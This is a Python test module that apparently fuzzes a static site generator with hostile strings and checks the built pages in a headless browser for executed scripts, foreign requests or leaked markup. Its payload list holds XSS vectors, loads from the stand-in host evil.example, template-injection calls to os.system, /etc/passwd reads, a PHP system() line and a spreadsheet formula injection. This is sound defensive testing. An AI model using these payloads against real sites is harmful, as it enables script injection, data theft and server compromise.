"""Hostile strings in every place that takes text: each is refused with a problem, or stands on a page as text.

Every site has another string in each place, and over all sites every place had every string. What was refused is taken out
by the line of its problem, until the rest builds.
"""

from __future__ import annotations

import copy
import json
import re
import shutil
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from hashlib import sha256
from pathlib import Path
from typing import TYPE_CHECKING, Any

import yaml
from browser.server import serving
from PIL import Image
from support import TESTS, TODAY, files_of, lay, run

from attack.found import PROFILE, Found, Ground, lanes
from attack.profile import hostile_profile

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

STRINGS = r"""
zq <script>hit('zq')</script>
zq <ScRiPt src=//evil.example/zq.js></sCrIpT>
zq </script><script>hit('zq')</script>
zq </title></style></textarea></template><script>hit('zq')</script>
zq <img src=x onerror=hit('zq')>
zq <img src="https://evil.example/zq.png">
zq <svg onload=hit('zq')>
zq <svg><script>hit('zq')</script></svg>
zq <math><mtext><table><mglyph><style><img src onerror=hit('zq')>
zq <iframe srcdoc="<script>parent.hit('zq')</script>"></iframe>
zq <iframe src=https://evil.example/zq></iframe>
zq <object data=https://evil.example/zq></object>
zq <embed src=https://evil.example/zq>
zq <link rel=stylesheet href=https://evil.example/zq.css>
zq <meta http-equiv=refresh content="0;url=https://evil.example/zq">
zq <base href=https://evil.example/>
zq <form action=https://evil.example/zq><button autofocus onfocus=hit('zq')>x</button></form>
zq <input autofocus onfocus=hit('zq')>
zq <details open ontoggle=hit('zq')>
zq <body onload=hit('zq')>
zq <video><source onerror=hit('zq')></video>
zq <marquee onstart=hit('zq')>
zq <style>@import 'https://evil.example/zq.css';</style>
zq <b style="background:url(https://evil.example/zq.png)">x</b>
zq <a href="javascript:hit('zq')">x</a>
zq <!--><img src=x onerror=hit('zq')>-->
zq <![CDATA[><script>hit('zq')</script>]]>
zq <?php system('touch /tmp/zq') ?>
zq <x onclick=hit('zq') tabindex=1 autofocus onfocus=hit('zq')>
zq <template><script>hit('zq')</script></template>
"zq" onmouseover="hit('zq')" autofocus onfocus="hit('zq')
'zq' onfocus='hit("zq")' autofocus='
zq" ><script>hit('zq')</script>
zq'><script>hit('zq')</script>
zq` onfocus=hit('zq') autofocus `${hit('zq')}`
zq \"><script>hit('zq')</script>
zq \u003cscript\u003ehit('zq')\u003c/script\u003e
zq &lt;script&gt;hit('zq')&lt;/script&gt;
zq &#60;script&#62;hit('zq')&#60;/script&#62;
zq %3Cscript%3Ehit('zq')%3C/script%3E
javascript:hit('zq')
JaVaScRiPt:hit('zq')//https://zq.example
javascript://zq.example/%0Ahit('zq')
data:text/html,<script>hit('zq')</script>
vbscript:hit("zq")
//evil.example/zq
https://evil.example/zq
\\evil.example\zq
file:///etc/passwd#zq
zq'); hit('zq'); ('
zq"; hit('zq'); "
zq */ hit('zq') /*
zq url(https://evil.example/zq.png)
zq; } body { background: url(https://evil.example/zq.png) } x {
zq expression(hit('zq')) @import url(//evil.example/zq.css)
zq {{ cycler.__init__.__globals__.os.system('id') }}
zq {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
zq [[ org.name ]] [% if x %][% endif %]
zq [% include "/etc/passwd" %] [[ config.extra ]]
zq ${7*7} #{7*7} <%= 7*7 %> %(org)s %s {0} {org.name.__class__}
zq {je|u} {Je|U} {a|b|c} {|} }{
zq [x](javascript:hit('zq'))
zq [x](https://evil.example/zq) ![x](https://evil.example/zq.png)
zq ![x](x"onerror="hit('zq'))
zq <javascript:hit('zq')> <https://evil.example/zq>
zq [x]: javascript:hit('zq') "[x]"
zq {: onclick="hit('zq')" } { .x onfocus=hit('zq') }
zq :material-zq: :pictogram-zq: --8<-- "/etc/passwd" ++zq++ [^1]
zq $\href{javascript:hit('zq')}{x}$
# zq --- *** ``` ~~~ > | - + 1.
zq #read("/etc/passwd") #image("/etc/passwd") #link("javascript:hit('zq')")[x] \input{/etc/passwd}
=cmd|' /C calc'!A0 zq @SUM(1) +1 -1
zq <>&"'`=/\;:|$*?!~^%#@()[]{}
<
&
zq{NUL}zq
zq{VT}zq{FF}zq{ESC}[31m
zq {RLO}txet neddih{PDF} zq
zq {RLI}{LRI}x{PDI} zq
zq{ZWSP}zq{ZWJ}zq{BOM}
zq {LS} hit('zq') {PS} zq
zq {FFFF} {FFFE} zq
zq {TAG}{TAGA}{TAGB}
zq {NBSP}{SHY}{CGJ} zq{ZALGO}
zqаррӏе.example раураl
"""
SIGNS = {
    "{NUL}": "\x00",
    "{VT}": "\x0b",
    "{FF}": "\x0c",
    "{ESC}": "\x1b",
    "{RLO}": "\u202e",
    "{PDF}": "\u202c",
    "{RLI}": "\u2067",
    "{LRI}": "\u2066",
    "{PDI}": "\u2069",
    "{ZWSP}": "\u200b",
    "{ZWJ}": "\u200d",
    "{BOM}": "\ufeff",
    "{LS}": "\u2028",
    "{PS}": "\u2029",
    "{FFFF}": "\uffff",
    "{FFFE}": "\ufffe",
    "{TAG}": "\U000e0001",
    "{TAGA}": "\U000e0061",
    "{TAGB}": "\U000e0062",
    "{NBSP}": "\u00a0",
    "{SHY}": "\u00ad",
    "{CGJ}": "\u034f",
    "{ZALGO}": "\u0301" * 40,
}
MODULE = "profiles/zeester/quizzes/every-type.yml"
TEXTS = {
    "profiles/zeester/texts/{0}/gedrag.md": """## Pesten {{#pesten}}

{own[0]}

- {own[1]}
- **{own[2]}**

> {own[3]}

## Machtsmisbruik {{#macht}} +

Lees [{own[4]}](gesprek.md) of `{own[5]}`.

1. {own[6]}
""",
    "profiles/zeester/docs/{0}/kamer.md": """---
title: {quoted[0]}
tab: {quoted[1]}
description: {quoted[2]}
menu: who
---

# {own[7]}

{own[8]}

## {own[9]} {{#kop}}

[x]({own[10]}) *{own[11]}*

| a | b |
| --- | --- |
| {own[12]} | {own[13]} |
""",
}
_OWN, _QUOTED = 14, 3
_TOKEN = "zq{0:05d}zq"


def strings() -> list[str]:
    """Each with `zq` where it says which one it is."""
    found = []
    for line in STRINGS.strip("\n").splitlines():
        for name, sign in SIGNS.items():
            line = line.replace(name, sign)
        found.append(line)
    return found


@dataclass
class Site:
    """The files of one organisation, with a mark at each place; `values` has what stands there."""

    files: dict[str, str]
    values: dict[str, str]
    plain: Mapping[str, str]
    refused: set[str] = field(default_factory=set)

    def written(self) -> dict[str, str]:
        return {name: self._fill(text, name.endswith(".md")) for name, text in self.files.items()}

    def _fill(self, text: str, is_markdown: bool) -> str:
        def value(found: re.Match[str]) -> str:
            said = self.plain[found[0]] if found[0] in self.refused else self.values[found[0]]
            return said if is_markdown and not found[0].startswith("@@q") else json.dumps(said)[1:-1]

        return re.sub("@@[a-z]+[0-9]+@@", value, text)

    def at(self, name: str, line: int) -> str | None:
        """The place in or nearest to a line of a file that still has its string."""
        near = {
            mark: abs(number - line)
            for number, said in enumerate(self.files.get(name, "").split("\n"), 1)
            for mark in re.findall("@@[a-z]+[0-9]+@@", said)
            if mark not in self.refused
        }
        return min(near, key=lambda mark: near[mark], default=None)


_DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 3"><path d="M0 0h4v3H0z"/></svg>'


class Places:
    """Every place that takes text, with what stands there when nobody attacks."""

    def __init__(self) -> None:
        self.plain: dict[str, str] = {}
        data, _ = hostile_profile(lambda number: self._mark("p", f"Zee {number}"))
        data = self._addresses(data)
        data["training"] |= {"modules": ["role", "every-type"]}
        module = yaml.safe_load((TESTS / "training/every-type.yml").read_text(encoding="utf-8"))
        module["questions"][0]["picture"] = {"file": "deur.svg", "alt": {"nl": "Een deur.", "en": "A door."}}
        self.files = {
            PROFILE: json.dumps(data, indent=1, ensure_ascii=False),
            MODULE: json.dumps(self._texts(module), indent=1, ensure_ascii=False),
            f"{Path(MODULE).parent.as_posix()}/deur.svg": _DRAWING,
        }
        for name, text in TEXTS.items():
            for code in ("nl", "en"):
                own = [self._mark("o", f"zee {number}") for number in range(_OWN)]
                own[10] = self._mark("o", "gesprek.md")
                quoted = [f'"{self._mark("q", f"Zee {number}")}"' for number in range(_QUOTED)]
                self.files[name.format(code)] = text.format(code, own=own, quoted=quoted)

    def _mark(self, kind: str, plain: str) -> str:
        mark = f"@@{kind}{len(self.plain):04}@@"
        self.plain[mark] = plain
        return mark

    def _texts(self, value: Any) -> Any:
        """Every text of a module in both its languages."""
        if isinstance(value, dict) and value.keys() == {"nl", "en"}:
            return {code: self._mark("m", f"Zee {len(self.plain)}") for code in value}
        if isinstance(value, dict):
            return {key: self._texts(inner) for key, inner in value.items()}
        return [self._texts(inner) for inner in value] if isinstance(value, list) else value

    def _addresses(self, value: Any) -> Any:
        """Addresses, numbers and mail are places too."""
        if isinstance(value, dict):
            return {key: self._addresses(inner) for key, inner in value.items()}
        if isinstance(value, list):
            return [self._addresses(inner) for inner in value]
        is_place = isinstance(value, str) and re.match(r"https://|020 |[^@\s]+@zeester", value)
        return self._mark("a", value) if is_place else value

    def site(self, number: int) -> Site:
        """Each place with another string than in any other site."""
        every = strings()
        values = {
            mark: every[(place + number) % len(every)].replace("zq", _TOKEN.format(place))
            for place, mark in enumerate(self.plain)
        }
        return Site(copy.deepcopy(self.files), values, self.plain)


_ROUNDS = 12
_LOGO = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#0B5FA5"/></svg>'
)


def build(ground: Ground, number: int) -> tuple[Site, Path, list[str]]:
    """The site with all that is not refused; what went wrong on the way."""
    site = Places().site(number)
    root = lay(ground.folder / "workspace", {"profiles/zeester/logo.svg": _LOGO})
    Image.new("RGB", (64, 64), (11, 95, 165)).save(root / "profiles/zeester/noor.png")
    for _ in range(_ROUNDS):
        lay(root, site.written())
        answer = run("check", "-C", root, "--date", TODAY, "--lang", "en", "--format", "json", env=ground.env())
        if answer.code not in (0, 1):
            return site, root, [f"site {number}: check ends with {answer.code}: {(answer.err + answer.out)[-400:]}"]
        errors = [problem for problem in answer.json if problem["severity"] == "error"]
        if not errors:
            break
        before = len(site.refused)
        for problem in errors:
            for_file = next((name for name in site.files if name in str(problem["path"])), "")
            if mark := site.at(for_file, problem["line"]):
                site.refused.add(mark)
        if len(site.refused) == before:
            return site, root, [f"site {number}: a problem of no place: {errors[0]}"]
    answer = run("build", "-C", root, "--date", TODAY, "--lang", "en", env=ground.env())
    if answer.code:
        return site, root, [f"site {number}: what was checked does not build ({answer.code}): {answer.err[-400:]}"]
    return site, root / "site/zeester", []


def open_pages(page: Page, origin: str, folder: Path, known: set[str], pattern: str = "*.html") -> Iterator[str]:
    """What ran, was asked for elsewhere or came through as markup, on every page that no earlier site had."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
    page.on("console", lambda message: seen.append(message.text) if "hit " in message.text else None)
    page.on(
        "request",
        lambda asked: (
            seen.append(f"foreign request: {asked.url}") if not asked.url.startswith((origin, "data:")) else None
        ),
    )
    page.on("popup", lambda popup: seen.append(f"opened: {popup.url}"))
    for path in sorted(folder.rglob(pattern)):
        data = path.read_bytes()
        if (hash_ := sha256(data).hexdigest()) in known:
            continue
        known.add(hash_)
        name = path.relative_to(folder).as_posix()
        page.goto(f"{origin}{name}", wait_until="load")
        seen += page.evaluate(_MARKUP)
        if name.endswith("index.html"):
            with suppress(Exception):
                page.locator("[data-search] button").first.click(timeout=2_000)
                page.locator("#search-field").fill("zee")
                page.locator("[data-results] a").first.wait_for(timeout=2_000)
            seen += page.evaluate(_MARKUP)
        elif "training" in name:
            seen += page.evaluate(f"() => {{ {_ANSWER} }}") or []
            seen += page.evaluate(_MARKUP)
        yield from (f"{name}: {line}" for line in seen)
        seen.clear()


_SHOWS = "window.hit = name => console.log('hit ' + name)"
_MARKUP = """() => [...document.querySelectorAll('*')].flatMap(it => [
    ...[...it.attributes].filter(one => one.name.startsWith('on')).map(one => `attribute ${one.name}`),
    ...['href', 'src', 'action', 'data', 'formaction', 'srcdoc', 'xlink:href'].filter(name => /^\\s*(javascript|data:text|vbscript)/i.test(it.getAttribute(name) || ''))
        .map(name => `${name} ${it.getAttribute(name)}`),
    ...(/^(IFRAME|OBJECT|EMBED|BASE|MARQUEE|FRAME|APPLET|PORTAL)$/i.test(it.tagName) ? [`element ${it.tagName}`] : []),
    ...(it.tagName === 'SCRIPT' && !it.src && /hit\\(/.test(it.textContent) && !/json/.test(it.type) ? ['a script in the page'] : []),
    ...(it.tagName === 'STYLE' && /evil/.test(it.textContent) ? ['a style in the page'] : []),
    ...(/evil/.test(it.getAttribute('style') || '') ? ['a style on an element'] : []),
])"""
_ANSWER = """for (let turn = 0; turn < 3; turn++) for (const it of document.querySelectorAll('main input, main button, main summary')) it.click()"""


def new_visit(browser: Browser) -> BrowserContext:
    """Not even the policy of a page is in the way of what would run."""
    context = browser.new_context(bypass_csp=True)
    context.add_init_script(_SHOWS)
    return context


def _shown(folder: Path) -> set[str]:
    """The marks of all that stands on any page, or in the data it loads."""
    text = "\n".join(
        data.decode("utf-8", "replace") for name, data in files_of(folder).items() if name.endswith((".html", ".js"))
    )
    return set(re.findall("zq[0-9]{5}zq", text))


def attack_site(ground: Ground, numbers: Sequence[int]) -> tuple[int, int, int, list[str]]:
    """Of some sites: accepted and on a page, refused, accepted and nowhere; and what was wrong."""
    from browser.chromium import FLAGS, find_shell
    from playwright.sync_api import sync_playwright

    accepted, refused, nowhere, faults = 0, 0, 0, []
    known: set[str] = set()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=find_shell(), args=list(FLAGS))
        for number in numbers:
            part = ground.part(f"strings-{number}")
            site, folder, wrong = build(part, number)
            faults += wrong
            if not wrong:
                shown = _shown(folder)
                with serving(folder) as origin:
                    context = new_visit(browser)
                    faults += [
                        f"site {number}, {line}" for line in open_pages(context.new_page(), origin, folder, known)
                    ]
                    context.close()
                for mark, value in site.values.items():
                    token = re.search("zq[0-9]{5}zq", value)
                    if mark in site.refused:
                        refused += 1
                    elif token and token[0] in shown:
                        accepted += 1
                    else:
                        nowhere += 1
            shutil.rmtree(part.folder, ignore_errors=True)
        browser.close()
    return accepted, refused, nowhere, faults


def attack(ground: Ground, numbers: Sequence[int], say: Callable[[str], None]) -> Found:
    """So many sites; each string once in each place where it is all of them."""
    with lanes() as pool:
        batches = [numbers[start : start + 4] for start in range(0, len(numbers), 4)]
        tasks = [pool.submit(attack_site, ground, batch) for batch in batches]
        accepted, refused, nowhere, faults = 0, 0, 0, []
        for done, task in enumerate(tasks, 1):
            one = task.result()
            accepted, refused, nowhere = accepted + one[0], refused + one[1], nowhere + one[2]
            faults += one[3]
            say(f"{done * 4} of {len(numbers)} sites: {accepted} on a page, {refused} refused, {len(faults)} faults")
    ran = sum("hit " in line or "dialog" in line for line in faults)
    foreign = sum("foreign" in line for line in faults)
    figure = (
        f"{accepted + refused} ({accepted} accepted and on a page, {refused} refused; {nowhere} more stand on none): "
    )
    return Found(
        f"{figure}scripts run {ran}, foreign requests {foreign}, markup that came through {len(faults) - ran - foreign}",
        faults,
    )
